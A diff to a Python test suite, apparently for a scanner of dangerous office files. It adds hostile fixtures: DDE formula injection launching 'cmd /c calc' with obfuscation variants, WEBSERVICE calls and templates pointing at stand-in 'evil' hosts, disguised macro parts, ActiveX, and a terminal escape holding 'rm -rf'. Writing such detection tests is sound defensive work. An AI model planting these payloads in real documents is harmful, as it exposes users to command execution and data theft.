@@ -158,18 +158,21 @@ def xls_with(record: bytes) -> Callable[[], bytes]:
         content = xls([["Xã", 1]])
         start = content.index(b"\x09\x08")
         length = 4 + struct.unpack_from("<H", content, start + 2)[0]
-        room = content[: start + length] + record + content[start + length :]
-        return room[: len(content)]
+        end = start + 4_096  # its stream is filled with nulls up to here
+        return content[: start + length] + record + content[start + length : end - len(record)] + content[end:]
 
     return make
 
 
 def xls_named(name: str) -> Callable[[], bytes]:
-    """The same with the name of a further storage in its directory."""
+    """The same with a further storage of that name in its directory."""
 
     def make() -> bytes:
+        content = bytearray(xls([["Xã", 1]]))
+        third = content.index("Root Entry".encode("utf-16-le")) + 2 * 128
         raw = name.encode("utf-16-le") + b"\0\0"
-        return xls([["Xã", 1]]) + raw.ljust(64, b"\0") + struct.pack("<HB", len(raw), 1) + bytes(61) + bytes(384)
+        content[third : third + 67] = raw.ljust(64, b"\0") + struct.pack("<HB", len(raw), 1)
+        return bytes(content)
 
     return make
 
@@ -238,6 +241,14 @@ WORD_FILES = {
     ),
     "a button of a macro": Case("docx", lambda: office.with_field("MACROBUTTON Run Bấm"), "nút chạy macro"),
     "a field that prints commands": Case("docx", lambda: office.with_field("PRINT 27"), "trường PRINT"),
+    "letters to be merged from a database": Case(
+        "docx", lambda: office.with_body('<w:mailMerge><w:connectString w:val="Provider=a"/></w:mailMerge>'), "trộn thư"
+    ),
+    "a control in a text": Case(
+        "docx",
+        lambda: office.with_relation(office.word(), DOCUMENT_RELS, "control", "styles.xml", external=False),
+        "ActiveX",
+    ),
     "a billion laughs": Case("docx", replaced(office.word, "word/settings.xml", LAUGHS), "thực thể XML"),
     "an entity that reads a file": Case("docx", replaced(office.word, "word/styles.xml", OUTSIDE), "thực thể XML"),
     "an inclusion": Case(
@@ -320,6 +331,36 @@ EXCEL_FILES = {
         ),
         "tự chạy",
     ),
+    "a formula with a remark in it": Case("xlsx", lambda: office.with_formula("cm<!-- x -->d|'/c calc'!A0"), "DDE"),
+    "a formula of a strange prefix": Case(
+        "xlsx",
+        replaced(
+            office.excel,
+            "xl/worksheets/sheet1.xml",
+            "<é:worksheet xmlns:é='a'><é:f>cmd|'/c calc'!A0</é:f></é:worksheet>".encode(),
+        ),
+        "DDE",
+    ),
+    "a validation that asks a server": Case(
+        "xlsx",
+        replaced(
+            office.excel,
+            "xl/worksheets/sheet1.xml",
+            b"<worksheet><formula1>WEBSERVICE(A1)</formula1></worksheet>",
+        ),
+        "WEBSERVICE",
+    ),
+    "macros that lie about their type": Case(
+        "xlsx",
+        lambda: office.with_relation(
+            office.with_part(office.excel(), "xl/a.odttf", b"x", "application/x-fontdata"),
+            BOOK_RELS,
+            "vbaProject",
+            "a.odttf",
+            external=False,
+        ),
+        MACRO,
+    ),
     "a link of a workbook": Case(
         "xlsx",
         lambda: office.with_relation(office.excel(), BOOK_RELS, "externalLinkPath", "file:///\\\\evil\\a.xlsx"),
@@ -362,6 +403,10 @@ OPEN_DOCUMENTS = {
         in_table('<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://evil.example&quot;)"/>'),
         "WEBSERVICE",
     ),
+    "a template on a share (odt)": Case(
+        "odt", in_text('<meta:template xlink:href="file://evil/a.ott" xmlns:meta="m"/>'), "kéo nội dung"
+    ),
+    "a field that runs a macro (odt)": Case("odt", in_text('<text:execute-macro text:name="a"/>'), "mã lệnh"),
     "entities (ods)": Case("ods", replaced(office.calc, "styles.xml", LAUGHS), "thực thể XML"),
     "a password (ods)": Case(
         "ods", replaced(office.calc, "META-INF/manifest.xml", b"<a><encryption-data/></a>"), "đặt mật khẩu"
@@ -457,6 +502,9 @@ TABLES = {
     "a module (xls)": Case("xls", xls_with(bound_sheet(6)), MACRO),
     "DDE (xls)": Case("xls", xls_with(supbook(b"cmd\x03/c calc")), "DDE"),
     "another workbook (xls)": Case("xls", xls_with(supbook(b"\x01a.xls", 3)), "bảng tính khác"),
+    "a formula that asks a server (csv)": Case(
+        "csv", lambda: 'Xã;1\n=WEBSERVICE("http://evil.example/a");2\n'.encode(), "WEBSERVICE"
+    ),
     "DDE (csv)": Case("csv", lambda: "Xã;Số hộ\n=cmd|'/C calc'!A0;1\n".encode(), "DDE"),
     "DDE behind a sign (csv)": Case("csv", lambda: "Xã,Số hộ\n\"@SUM(1+1)*cmd|'/C calc'!A0\",1\n".encode(), "DDE"),
     "commands of a terminal (csv)": Case("csv", lambda: "Xã;1\n\x1b]0;rm -rf\x07;2\n".encode(), "mã điều khiển"),
